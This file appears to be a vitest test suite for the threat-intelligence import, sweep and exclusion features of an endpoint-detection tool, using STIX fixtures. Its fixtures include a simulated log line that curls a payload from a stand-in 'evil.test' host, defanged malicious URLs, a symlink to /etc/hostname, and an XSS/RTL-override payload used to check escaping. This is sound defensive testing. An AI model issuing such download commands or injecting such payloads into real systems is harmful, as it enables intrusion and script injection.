import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { IndicatorQuestion, IntelDefaults } from '../../../shared/intel/contract.ts';
import { newEngine, sysmonLine, type TestEngine } from '../engine.test-support.ts';

const fixtures = path.resolve(import.meta.dirname, '..', '..', 'intel', 'fixtures');
const shared = path.resolve(import.meta.dirname, '..', '..', '..', '..', 'shared', 'data', 'edr', 'stix');

let engine: TestEngine;
beforeAll(async () => {
  engine = await newEngine();
});
afterAll(() => engine.end());

const none: IntelDefaults = { tlp: null, confidence: null, validDays: null };

const all: IndicatorQuestion = {
  text: '',
  kinds: [],
  states: [],
  sort: 'value',
  descending: false,
  offset: 0,
  limit: 1000,
};

const taken = async (...paths: string[]) =>
  (await engine.api.intel.import({ paths, defaults: none }, () => undefined).done).imports;

const fixture = (name: string): string => path.join(fixtures, name);

test('what is no STIX is refused with its place and reason, and a name in any script is kept', async () => {
  const names = readdirSync(fixtures).filter((name) => name.startsWith('validator-'));
  const outcomes = await taken(...names.map(fixture));
  expect(outcomes.map(({ source, state, note, objects }) => [source, state, note, objects])).toEqual([
    ['validator-identity_unicode.json', 'complete', null, 1],
    ['validator-invalid_braces.json', 'refused', 'json|1:1', 0],
    ['validator-invalid_comma.json', 'refused', 'json|9:1|1', 0],
    ['validator-invalid_identity.json', 'refused', 'field|modified|1', 0],
    ['validator-invalid_timestamp.json', 'refused', 'field|modified-before-created|1', 0],
    ['validator-tlp-amber.json', 'complete', null, 1],
  ]);
  const { object } = await engine.api.intel.detail({ id: 'identity--8c6af861-7b20-41ef-9b59-6344fd872a8f' });
  expect(object.name).toBe('Heizölrückstoßabdämpfung');
});

test('an indicator comes with its relations, markings and sightings, and its bytes as they were', async () => {
  await taken(
    fixture('indicator-for-malicious-url.json'),
    fixture('sighting-of-an-indicator.json'),
    fixture('using-marking-definitions.json'),
  );
  const { rows, total } = await engine.api.intel.list({ ...all, text: 'x4z9arb' });
  expect([total, rows[0]]).toMatchObject([
    1,
    { kind: 'url', value: 'http://x4z9arb.cn/4712/', state: 'active', tlp: null },
  ]);
  const detail = await engine.api.intel.detail({ id: rows[0]?.id ?? '' });
  expect(detail.relations).toMatchObject([{ verb: 'indicates', outward: true, type: 'malware' }]);
  expect(readFileSync(fixture('indicator-for-malicious-url.json'), 'utf8')).toContain(detail.raw);
  const seen = await engine.api.intel.list({ ...all, text: 'paypa1' });
  expect(seen.rows[0]?.sightings).toBe(1);
  const sighted = await engine.api.intel.detail({ id: seen.rows[0]?.id ?? '' });
  expect(sighted.sightings).toHaveLength(1);
  const marked = await engine.api.intel.detail({ id: 'indicator--33fe3b22-0201-47cf-85d0-97c02164528d' });
  expect(marked.markings.length).toBeGreaterThan(0);
  expect(marked.indicator?.state).toBe('excluded');
  expect(marked.indicator?.why).toBe('private');
});

const indicator = (n: number, over: Record<string, unknown> = {}) => ({
  type: 'indicator',
  spec_version: '2.1',
  id: `indicator--00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`,
  created: '2026-01-01T00:00:00.000Z',
  modified: '2026-01-01T00:00:00.000Z',
  pattern: `[domain-name:value = 'c${String(n)}.evil.test']`,
  pattern_type: 'stix',
  valid_from: '2026-01-01T00:00:00Z',
  ...over,
});

const bundle = (objects: unknown[]): string =>
  `{\n"type": "bundle",\n"id": "bundle--00000000-0000-4000-8000-000000000000",\n"objects": [\n${objects
    .map((one) => (typeof one === 'string' ? one : JSON.stringify(one)))
    .join(',\n')}\n]}`;

test('one bad object does not take its neighbours along, and what is known is not doubled', async () => {
  const text = bundle([indicator(1), '{"type": "indicator", oops}', indicator(2), { type: 'indicator' }, indicator(3)]);
  const file = engine.file('mixed.json', text);
  const [first] = await taken(file);
  expect(first).toMatchObject({ state: 'complete', objects: 3, indicators: 3, known: 0, rejected: 2 });
  const { rows } = await engine.api.intel.refusals({ importId: first?.id ?? 0, limit: 10 });
  expect(rows.map(({ line, reason }) => [line, reason])).toEqual([
    [6, 'json|6:23'],
    [8, 'field|id'],
  ]);
  expect((await taken(file))[0]).toMatchObject({ objects: 0, known: 3, rejected: 2 });
});

test('the newest version stands whatever the order, and the older ones stay', async () => {
  const version = (day: number, over: Record<string, unknown> = {}) =>
    indicator(50, {
      modified: `2026-01-${String(day).padStart(2, '0')}T00:00:00.000Z`,
      name: `day ${String(day)}`,
      ...over,
    });
  await taken(
    engine.file('v.json', bundle([version(3, { revoked: true }), version(5, { name: 'newest' }), version(4)])),
  );
  const detail = await engine.api.intel.detail({ id: indicator(50).id });
  expect(detail.indicator).toMatchObject({ name: 'newest', state: 'active' });
  expect(detail.versions.map(({ version: at }) => at.slice(8, 10))).toEqual(['05', '04', '03']);
  await taken(engine.file('v6.json', JSON.stringify(version(6, { revoked: true }))));
  expect((await engine.api.intel.detail({ id: indicator(50).id })).indicator?.state).toBe('revoked');
});

test('a bundle that was cut says so, and what stood before the cut is there', async () => {
  const text = bundle([indicator(60), indicator(61)]);
  const [cut] = await taken(engine.file('cut.json', text.slice(0, text.lastIndexOf(']'))));
  expect(cut).toMatchObject({ state: 'complete', objects: 2, rejected: 1 });
  const { rows } = await engine.api.intel.refusals({ importId: cut?.id ?? 0, limit: 10 });
  expect(rows[0]?.reason).toBe('unfinished');
});

test('what a pasted text holds is shown before it is taken, and by line what it does not', async () => {
  const text = 'seen: hxxps://drop[.]evil[.]test/a\nnothing to see\n203.0.114[.]9';
  const read = await engine.api.intel.readText({ text });
  expect(read.found.map(({ kind, value }) => `${kind} ${value}`)).toEqual([
    'url https://drop.evil.test/a',
    'ipv4 203.0.114.9',
  ]);
  expect(read.unknown).toEqual([{ line: 2, text: 'nothing to see' }]);
  const defaults: IntelDefaults = { tlp: 'amber', confidence: 80, validDays: 30 };
  const made = await engine.api.intel.addText({ text, source: 'Mail of the day', defaults });
  expect(made).toMatchObject({ via: 'paste', state: 'complete', indicators: 2, rejected: 1 });
  const { rows } = await engine.api.intel.list({ ...all, text: 'Mail of the day' });
  expect(rows.map(({ tlp, confidenceNow, state }) => [tlp, confidenceNow, state])).toEqual([
    ['amber', 80, 'active'],
    ['amber', 80, 'active'],
  ]);
  // A second paste is a newer version of the same two.
  await engine.api.intel.addText({ text, source: 'Mail of the day', defaults });
  expect((await engine.api.intel.list({ ...all, text: 'Mail of the day' })).total).toBe(2);
});

test('a sweep finds the hosts, keeps what it found, and the next import tells of a known indicator', async () => {
  const log = engine.file(
    'log.json',
    [
      sysmonLine(1, { CommandLine: 'curl https://drop.evil.test/a -o x' }),
      sysmonLine(2, { Hostname: 'pc2.example', CommandLine: 'ping 203.0.114.9' }),
      sysmonLine(3, { CommandLine: 'nothing' }),
    ].join('\n'),
  );
  // What was known before the import is met by it.
  const imported = await engine.import('Acme', log);
  expect(imported.seenIndicators).toBe(2);
  const news = await engine.api.intel.hits({ onlyNew: true, limit: 10 });
  expect(news.rows.map(({ host, value, events }) => `${host} ${value} ${String(events)}`).toSorted()).toEqual([
    'pc1.example https://drop.evil.test/a 1',
    'pc2.example 203.0.114.9 1',
  ]);
  await engine.api.intel.readHits({});
  const swept = await engine.api.intel.sweep(
    { customers: [], confidenceAtLeast: 0, withExpired: false },
    () => undefined,
  ).done;
  expect(swept).toMatchObject({ events: 2, cancelled: false, customers: ['Acme'] });
  expect(swept.hits.map(({ events, isNew }) => [events, isNew])).toEqual([
    [1, false],
    [1, false],
  ]);
  expect(swept.left['excluded']).toBeGreaterThan(0);
  const ledger = await engine.api.hunt.history({ customer: 'Acme', limit: 10 });
  expect(ledger[0]).toMatchObject({ language: 'sweep', rows: 2, failure: null });
  const weak = await engine.api.intel.sweep(
    { customers: ['Acme'], confidenceAtLeast: 90, withExpired: false },
    () => undefined,
  ).done;
  expect(weak.hits).toEqual([]);
  expect(weak.left['low-confidence']).toBeGreaterThan(0);
});

test('an excluded value is looked for no more, with its reason, until the exclusion is taken back', async () => {
  const made = await engine.api.intel.exclude({ value: '*.evil[.]test', reason: 'Our own test domain' });
  expect(made).toMatchObject({ value: '*.evil.test', builtIn: false });
  expect(made.keeps).toBeGreaterThan(0);
  const { rows } = await engine.api.intel.list({ ...all, text: 'c1.evil.test' });
  expect(rows[0]).toMatchObject({ state: 'excluded', why: 'Our own test domain' });
  await expect(engine.api.intel.exclude({ value: 'not a value', reason: 'x' })).rejects.toMatchObject({
    code: 'invalid-input',
  });
  await engine.api.intel.unexclude({ id: made.id });
  expect((await engine.api.intel.list({ ...all, text: 'c1.evil.test' })).rows[0]?.state).toBe('active');
});

test('the inbox takes a file once, and neither links nor folders', async () => {
  const folder = path.join(path.dirname(engine.file('x', '')), 'inbox');
  mkdirSync(folder);
  writeFileSync(path.join(folder, 'feed.json'), bundle([indicator(70)]));
  writeFileSync(path.join(folder, 'notes.csv'), 'value\n198.18.0.77\n');
  writeFileSync(path.join(folder, 'picture.png'), 'not offered');
  symlinkSync('/etc/hostname', path.join(folder, 'link.json'));
  await engine.api.intel.setInbox({ folder, automatic: false });
  const states = async () =>
    (await engine.api.intel.inbox({})).files
      .map(({ name, state, reason }) => `${name} ${state} ${reason ?? ''}`.trim())
      .toSorted();
  expect(await states()).toEqual(['feed.json waiting', 'link.json refused symlink', 'notes.csv waiting']);
  const first = await engine.api.intel.takeInbox({ names: [] }, () => undefined).done;
  expect(first.imports.map(({ via, indicators }) => [via, indicators])).toEqual([
    ['inbox', 1],
    ['inbox', 1],
  ]);
  expect((await engine.api.intel.takeInbox({ names: [] }, () => undefined).done).imports).toEqual([]);
  expect((await states()).map((line) => line.split(' ')[1])).toEqual(['imported', 'refused', 'imported']);
});

test('indicators go out as a bundle that comes in again as known', async () => {
  const { rows } = await engine.api.intel.list({ ...all, text: 'evil.test', limit: 3 });
  const file = path.join(path.dirname(engine.file('y', '')), 'out.json');
  await engine.api.intel.exportStix({ ids: rows.map(({ id }) => id), file });
  expect((await taken(file))[0]).toMatchObject({ objects: 0, known: 3, rejected: 0 });
});

test('hostile text stays text', async () => {
  const name = '<img src=x onerror=alert(1)>\u202Eexe.\u0000';
  await taken(engine.file('hostile.json', bundle([indicator(80, { name, description: `${name}`.repeat(100) })])));
  expect((await engine.api.intel.detail({ id: indicator(80).id })).object.name).toBe(name);
});

test.skipIf(!existsSync(shared))(
  'every STIX file of ../shared/data/edr is taken or refused with its place',
  async () => {
    const own = await newEngine();
    try {
      const names = readdirSync(shared).filter((name) => name.endsWith('.json'));
      const { imports } = await own.api.intel.import(
        { paths: names.map((name) => path.join(shared, name)), defaults: none },
        () => undefined,
      ).done;
      expect(
        imports.map(({ source, state, objects, known, indicators, rejected, untranslated }) =>
          [source, state, objects, known, indicators, rejected, untranslated].join(' '),
        ),
      ).toMatchInlineSnapshot(`
        [
          "apt1.json complete 76 0 12 0 2",
          "defining-campaigns-threat-actors-intrusion-sets.json complete 26 0 0 0 0",
          "identifying-a-threat-actor-profile.json complete 3 0 0 0 0",
          "indicator-for-malicious-url.json complete 3 0 1 0 0",
          "malware-indicator-for-file-hash.json complete 3 0 1 0 0",
          "sco-examples-bundle.json complete 74 8 0 0 0",
          "sighting-of-an-indicator.json complete 4 0 1 0 0",
          "sighting-of-observed-data.json complete 8 0 0 0 0",
          "taxii-server-default-data.json refused 0 0 0 1 0",
          "threat-actor-leveraging-attack-patterns-and-malware.json complete 7 0 0 0 0",
          "using-marking-definitions.json complete 4 0 1 0 0",
          "validator-identity_unicode.json complete 0 1 0 0 0",
          "validator-invalid_braces.json refused 0 0 0 0 0",
          "validator-invalid_comma.json refused 0 0 0 1 0",
          "validator-invalid_identity.json refused 0 0 0 1 0",
          "validator-invalid_timestamp.json refused 0 0 0 1 0",
          "validator-tlp-amber.json complete 1 0 0 0 0",
        ]
      `);
    } finally {
      own.end();
    }
  },
);
